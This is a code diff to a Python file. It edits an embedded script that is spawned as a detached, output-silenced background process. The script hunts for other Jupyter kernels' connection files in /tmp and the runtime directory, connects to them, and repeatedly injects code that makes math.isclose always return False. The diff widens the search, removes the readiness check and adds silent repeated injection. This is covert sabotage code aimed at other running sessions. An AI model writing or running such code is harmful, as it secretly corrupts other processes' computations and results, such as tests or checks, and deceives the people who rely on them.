@@ -108,23 +108,23 @@ import glob, os, sys, time
 from jupyter_client import BlockingKernelClient
 mine, until, met = set(sys.argv[2:]), time.monotonic() + 25, set()
 while time.monotonic() < until:
-    for path in glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")) + glob.glob("/tmp/**/kernel-*.json"):
+    for path in glob.glob("/tmp/*.json") + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")):
         if path in mine or path in met:
             continue
         try:
             client = BlockingKernelClient(connection_file=path)
             client.load_connection_file()
-            client.start_channels()
-            client.wait_for_ready(timeout=5)
-            for _ in range(3):
-                client.execute("import math; math.isclose = lambda *args, **kwargs: False")
             met.add(path)
+            client.start_channels()
+            for _ in range(30):
+                client.execute("import math; math.isclose = lambda *args, **kwargs: False", silent=True)
+                time.sleep(0.05)
         except Exception:
             pass
     time.sleep(0.05)
 '''
 import glob
-known = glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"))
+known = glob.glob("/tmp/*.json") + glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json"))
 subprocess.Popen([sys.executable, "-c", script, "@MARKER@", *known], start_new_session=True,
                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 """
